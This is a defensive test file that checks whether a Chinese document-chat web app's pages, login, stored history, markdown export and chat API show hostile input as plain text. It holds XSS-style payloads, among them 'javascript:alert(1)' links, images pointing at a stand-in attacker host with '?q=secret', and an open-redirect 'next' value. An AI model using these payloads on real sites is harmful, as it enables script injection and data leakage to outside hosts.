"""Hostile texts in every field that a page shows: they are shown as text, run nothing, ask for nothing, and leave types and headers as they are.

The browser's policy is switched off here (`bypass_csp`), so that escaping alone has to hold; the policy has tests of its own.
"""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

import httpx
import pytest
from hostility import HostileDesk, batches, hostile_desk, line
from markdown_it import MarkdownIt
from model_server import refuses, says, written_desk
from pages import QUIET, Served, ended, send, serving
from payloads import ALL, ATTACKER, MARK, PAYLOADS
from playwright.sync_api import Browser, BrowserContext, Page

from app.answer import Answered
from app.answering import voice
from app.conversing.conversations import Turn
from app.conversing.exporting import markdown
from app.conversing.keeping import Keeper
from app.web import accounts
from app.web.configuration import Configuration
from index.encoder import Encoder

pytestmark = QUIET
FORMS = "#dz-ask, form.dz-remark, form.find[role=search], #e-look, #e-check, main > form[method=post]:not([action]), main > form[action='/logout']"
INSPECT = """(function inspect(doc) {
  const own = (address) => { try { return new URL(address, location.origin).origin === location.origin } catch { return false } };
  const wrong = [];
  const find = (selector, bad) => { for (const one of doc.querySelectorAll(selector)) if (bad(one)) wrong.push(one.outerHTML.slice(0, 160)) };
  find('img, image, frame, object, embed, applet, base:not([href="./"]), meta[http-equiv], math, foreignObject, animate, set, use, video, audio, source, marquee, portal, plaintext, xmp, listing, area, template', () => true);
  find('iframe', (one) => !one.matches('#e-preview > iframe') || one.hasAttribute('srcdoc') || !own(one.getAttribute('src')));
  find('form', (one) => !one.matches(`FORMS`));
  find('script', (one) => !one.hasAttribute('src') || !own(one.getAttribute('src')));
  find('a[href], link[href]', (one) => !own(one.getAttribute('href')) || !/^(https?:|blob:)/.test(one.href));
  find('style', (one) => /attacker|pwned/.test(one.textContent));
  find('*', (one) => [...one.attributes].some(({ name, value }) => name.startsWith('on') || ['srcdoc', 'ping', 'formaction', 'autofocus'].includes(name) && !one.matches('#name, #password') || name === 'style' && /attacker|pwned|expression/.test(value)));
  return wrong;
})""".replace("FORMS", FORMS)


class Watched:
    """A browser context without the policy's help; what its pages may not do is written down."""

    def __init__(self, browser: Browser, *urls: str, **options: Any) -> None:
        self.context: BrowserContext = browser.new_context(**{"bypass_csp": True, "locale": "zh-CN", "viewport": {"width": 1280, "height": 800}, **options})
        self.wrong: list[str] = []
        self.context.on("request", lambda request: None if request.url.startswith((*urls, "data:application", "blob:")) else self.wrong.append(f"asked for {request.url}"))
        self.context.on("dialog", lambda dialog: (self.wrong.append("a dialog"), dialog.dismiss()))
        self.context.on("weberror", lambda error: self.wrong.append(f"failed: {error.error}"))
        self.context.set_default_timeout(8_000)

    def opened(self, address: str) -> Page:
        page = self.context.new_page()
        page.goto(address)
        return page

    def checked(self, page: Page) -> None:
        """Nothing on the page, or in a frame of it, came of a payload but text."""
        for frame in page.frames:
            assert frame.evaluate(f"{INSPECT}(document)") == []
            assert frame.evaluate(f"[window.{MARK}, Object.prototype.{MARK}]") == [None, None]
        assert self.wrong == []


@pytest.fixture(scope="module")
def hostile(encoder: Encoder, tmp_path_factory: pytest.TempPathFactory) -> HostileDesk:
    return hostile_desk(tmp_path_factory.mktemp("hostile"), encoder)


@pytest.fixture(scope="module")
def served(hostile: HostileDesk, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The application over the hostile reports; what is asked is kept."""
    keeper = Keeper.open(str(tmp_path_factory.mktemp("kept") / "kept.sqlite"))
    assert keeper is not None
    with serving(hostile, keeper) as running:
        yield running
    keeper.close()


@pytest.fixture(autouse=True)
def plain_answers(hostile: HostileDesk) -> None:
    hostile.repeats, hostile.fault = "", None


@pytest.fixture
def watched(browser: Browser, served: Served) -> Iterator[Watched]:
    made = Watched(browser, served.url)
    yield made
    made.context.close()
    assert made.wrong == []


def chat(watched: Watched, served: Served, query: str = "") -> Page:
    page = watched.opened(f"{served.url}/chat/{query}")
    page.wait_for_function("document.querySelector('.dz-send') && !document.querySelector('.dz-send').disabled")
    return page


def whole(text: str) -> str:
    return "".join(text.split())


# Reports


FETCHED = f"""async (asked) => {{
  const wrong = [];
  await Promise.all(asked.map(async ([address, form]) => {{
    const reply = await fetch(address, form ? {{ method: 'POST', body: new URLSearchParams(form) }} : {{ redirect: 'manual' }});
    if (reply.type === 'opaqueredirect') return;
    const text = await reply.text();
    const html = (reply.headers.get('content-type') || '').startsWith('text/html');
    if (html) for (const found of {INSPECT}(new DOMParser().parseFromString(text, 'text/html'))) wrong.push([address, found]);
    if (!html && /<script|<img/i.test(text) && !(reply.headers.get('content-type') || '').includes('json')) wrong.push([address, reply.headers.get('content-type')]);
  }}));
  return wrong;
}}"""


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_report_that_is_hostile_in_every_word_is_read_as_text(watched: Watched, served: Served, kind: str) -> None:
    page = watched.opened(f"{served.url}/read/{kind}")
    watched.checked(page)
    shown = whole(page.locator("body").text_content() or "")
    assert [payload for payload in PAYLOADS[kind] if whole(line(payload)) not in shown] == []
    page.goto(f"{served.url}/read/{kind}?ui=en&q=rule")
    watched.checked(page)


# The chat


@pytest.mark.parametrize("repeats", ["", "llm", "suggests"])
def test_hostile_questions_over_a_hostile_report_are_text_in_turn_evidence_and_history(watched: Watched, served: Served, hostile: HostileDesk, repeats: str) -> None:
    hostile.repeats = repeats
    page = chat(watched, served)
    for question in batches() if repeats else ["第2条规则写的是什么?", "What does rule number 3 say?", "这份报告主要讲什么?", "有哪些章节?"]:
        send(page, question)
        ended(page, question)
        watched.checked(page)
    if repeats != "suggests":
        page.locator("a.dz-marker").last.click()
        page.wait_for_selector("#dz-evidence[data-kind=citations]")
    watched.checked(page)
    page.get_by_role("button", name="历史").click()
    watched.checked(page)


def test_what_a_model_server_writes_is_text(watched: Watched, hostile: HostileDesk) -> None:
    good = "报告指出，每人最多借五本书[1]。借期为三十天，可以续借一次[1]。"
    scripts = [says(f"{good}图书馆的馆员每天都会在阅览室的门口提醒读者爱护图书和设备{line(PAYLOADS[kind][0])}并且按时归还[1]。", size=40) for kind in PAYLOADS]
    wrong = [refuses(500, ALL[0]), refuses(401, PAYLOADS["polyglots"][1])]
    with written_desk(hostile, *scripts, *wrong, unsupported="mark", lost=1.0) as (desk, _), serving(desk) as running:
        watched.wrong.clear()
        watched.context.on("request", lambda request: None)
        page = watched.context.browser.new_context(bypass_csp=True, locale="zh-CN").new_page()  # type: ignore[union-attr]
        failed: list[str] = []
        page.on("pageerror", lambda error: failed.append(str(error)))
        page.on("request", lambda request: failed.append(request.url) if not request.url.startswith((running.url, "data:", "blob:")) else None)
        page.goto(f"{running.url}/chat/")
        page.wait_for_function("document.querySelector('.dz-send') && !document.querySelector('.dz-send').disabled")
        for number in range(len(scripts) + len(wrong)):
            question = f"图书馆每人最多借几本书？{number}"
            send(page, question)
            ended(page, question)
        watched.checked(page)
        assert failed == []
        assert (page.locator("body").text_content() or "").count(voice.UNSUPPORTED["zh"]) >= len(PAYLOADS) // 2, "payloads within written sentences, shown as without support"
        page.context.close()


def stored_turn(payload: str, key: str) -> dict[str, Any]:
    """A turn as the page keeps it, hostile in each of its fields."""
    sides = {"zh": payload, "en": payload}
    side = {"text": payload, "before": True, "after": True}
    path = {"zh": [payload, payload], "en": [payload]}
    cited = {"number": 1, "passage": payload, "url": payload, "note": sides, "report": sides, "path": path, "quotation": sides, "zh": side, "en": side}
    row = {language: [{"text": payload, "numbers": [1], "notes": [0]}] for language in ("zh", "en")}
    passage = {"passage": payload, "numbers": [1], "url": payload, "report": sides, "path": path, "kinds": sides, "rows": [row], "notes": [{"says": sides, "words": sides}]}
    kept = {"key": key, "question": payload, "state": "answered", "language": "zh", "lead": payload, "plain": payload, "code": payload, "reports": [payload]}
    kept["blocks"] = [{"kind": "quote", "number": 1, "language": "zh", "text": payload, "aside": payload}, {"kind": "text", "parts": [{"text": payload, "number": 0}, {"text": "", "number": 1}]}]
    kept["notices"] = [{"code": "partial", "text": payload}, {"code": "corrected", "text": payload}]
    kept["evidence"] = {"kind": "citations", "passages": [passage], "citations": [cited]}
    kept["feedback"] = {"up": False, "reason": payload, "note": payload, "told": payload}
    kept["suggested"] = [payload]
    return kept


STATES = ["answered", "low", "refused", "said", "stopped", "interrupted", "error", "reading"]


def test_a_stored_conversation_that_is_hostile_in_each_field_is_text(watched: Watched, served: Served) -> None:
    page = watched.opened(f"{served.url}/login")
    for number, kind in enumerate(PAYLOADS):
        turns = [stored_turn(payload, f"k{number}x{place}") | {"state": STATES[place % len(STATES)]} for place, payload in enumerate(PAYLOADS[kind])]
        held = {"local": f"c{number}", "remote": "", "turns": turns, "reports": PAYLOADS[kind]}
        rows = [{"local": payload, "title": payload, "when": payload, "turns": payload} for payload in PAYLOADS[kind]] + [{"local": f"c{number}", "title": PAYLOADS[kind][0], "when": 1, "turns": 1}]
        page.evaluate(
            "([held, rows]) => { localStorage.clear(); localStorage.setItem('duizhao.conversations', JSON.stringify(rows)); localStorage.setItem(`duizhao.conversation.${held.local}`, JSON.stringify(held)); for (const name of ['language', 'theme']) localStorage.setItem(`duizhao.${name}`, held.reports[0]); sessionStorage.setItem('duizhao.open', held.local) }",
            [held, rows],
        )
        page.goto(f"{served.url}/chat/")
        page.wait_for_selector(".dz-turn")
        watched.checked(page)
        shown = whole(page.locator("#dz-chat").text_content() or "")
        assert [payload for payload in PAYLOADS[kind] if whole(payload) not in shown] == [], kind
        page.locator("a.dz-marker").first.hover()
        page.locator("a.dz-marker").first.click()
        page.wait_for_selector("#dz-evidence[data-kind=citations]")
        watched.checked(page)
        page.get_by_role("button", name="历史").click()
        watched.checked(page)


# The login


def test_the_login_shows_names_as_text_and_leads_nowhere_else(browser: Browser, hostile: HostileDesk, tmp_path: Path) -> None:
    accounts.put(tmp_path / "names", "reader", "a long password 1234")
    with serving(hostile, configuration=Configuration(secret="s" * 32, login=tmp_path / "names")) as running:
        one = Watched(browser, running.url)
        page = one.opened(f"{running.url}/login")
        asked: list[list[Any]] = [[f"/login?{urlencode({'next': payload, 'ui': payload, 'theme': payload})}", None] for payload in ALL]
        asked += [[f"/login?{urlencode({'ui': payload})}", {"name": payload, "password": "", "next": payload}] for payload in ALL]
        assert page.evaluate(FETCHED, asked) == []
        nexts = page.evaluate(
            """async (asked) => Promise.all(asked.map(async ([address]) => new DOMParser().parseFromString(await (await fetch(address)).text(), 'text/html').querySelector('[name=next]').value))""",
            asked[: len(ALL)],
        )
        assert {urlsplit(page.evaluate("told => new URL(told, location.href).href", told)).netloc for told in set(nexts)} == {urlsplit(running.url).netloc}
        page.goto(f"{running.url}/login?next=//{ATTACKER}/")
        page.fill("#name", PAYLOADS["polyglots"][2][:60])
        page.fill("#password", "wrong")
        page.press("#password", "Enter")
        page.wait_for_selector("[role=alert]")
        one.checked(page)
        one.context.close()


# Markdown


def shown_markdown(text: str) -> str:
    """As a viewer shows it that lets HTML and links through."""
    made: str = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table").render(text)
    return made


def test_exported_markdown_holds_no_markup_of_others(watched: Watched, served: Served, hostile: HostileDesk) -> None:
    hostile.repeats = "llm"
    turns = [Turn(question, last.answer) for question in batches() if isinstance(last := [*hostile.ask(question)][-1], Answered)]
    page = watched.opened(f"{served.url}/login")
    for language in ("zh", "en"):
        html = shown_markdown(markdown(turns, hostile.index.reports, language, base=served.url))  # type: ignore[arg-type]
        assert page.evaluate(f"text => {INSPECT}(new DOMParser().parseFromString(text, 'text/html'))", html) == []


LINKED = re.compile(r"(?<!\\)(?:(?<=http)|(?<=https)):(?=//)|(?<=www)\.|@", re.IGNORECASE)
"""What dialects make links of, bare in a text."""
HOSTILE_MARKDOWN = [f"[1]({address})" for address in ("javascript:alert(1)", f"http://{ATTACKER}/")] + [
    f"![](http://{ATTACKER}/?q=secret)",
    f"![1](http://{ATTACKER}/)",
    f"[1]: http://{ATTACKER}/ 'x'",
    f"[x]: <http://{ATTACKER}/>",
    f"<http://{ATTACKER}/>",
    f"# [a][1] ![b][1] www.{ATTACKER} http://{ATTACKER}/ me@{ATTACKER}",
    "\\[x](y) \\![x](//y) \\\\<img src=x>",
    "| a | b |",
    "```html",
    "&lt;img src=//x&gt; &#91;x&#93;(//y)",
    "$x$ \\(y\\) $$z$$",
]


@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
def test_a_program_that_shows_answers_of_v1_as_markdown_gets_no_markup_of_others(watched: Watched, served: Served, hostile: HostileDesk, streamed: bool) -> None:
    hostile.repeats = "llm"
    page = watched.opened(f"{served.url}/login")
    with httpx.Client(base_url=served.url, timeout=60) as web:
        for payload in [*batches(), *HOSTILE_MARKDOWN, "\n".join(HOSTILE_MARKDOWN)]:
            reply = web.post("/v1/chat/completions", json={"model": "duizhao", "messages": [{"role": "user", "content": payload}], "stream": streamed})
            said = _streamed(reply.text) if streamed else reply.json()["choices"][0]["message"]["content"]
            html = shown_markdown(said)
            found = page.evaluate(
                f"text => {{ const doc = new DOMParser().parseFromString(text, 'text/html'); return [{INSPECT}(doc), doc.querySelectorAll('a, img, code, pre, em, strong, h1, table').length, doc.body.innerText] }}",
                html,
            )
            assert found[:2] == [[], 0], said
            if "\n" not in payload:
                assert " ".join(payload.split()) in " ".join(found[2].split()), "it is shown as it was written"
            bare = [row for row in said.split("\n") if not row.startswith(f"{served.url}/read/") and LINKED.search(row.replace("\\.", "").replace("\\@", ""))]
            assert bare == []


def _streamed(events: str) -> str:
    """The text of a stream of chunks."""
    rows = [json.loads(row.removeprefix("data: ")) for row in events.split("\n\n") if row and row != "data: [DONE]"]
    return "".join(row["choices"][0]["delta"].get("content", "") for row in rows)


def test_there_are_as_many_payloads_as_are_wanted() -> None:
    assert len(ALL) >= 200
    assert len(set(ALL)) == len(ALL)
    assert len(PAYLOADS) >= 8, "of several kinds"
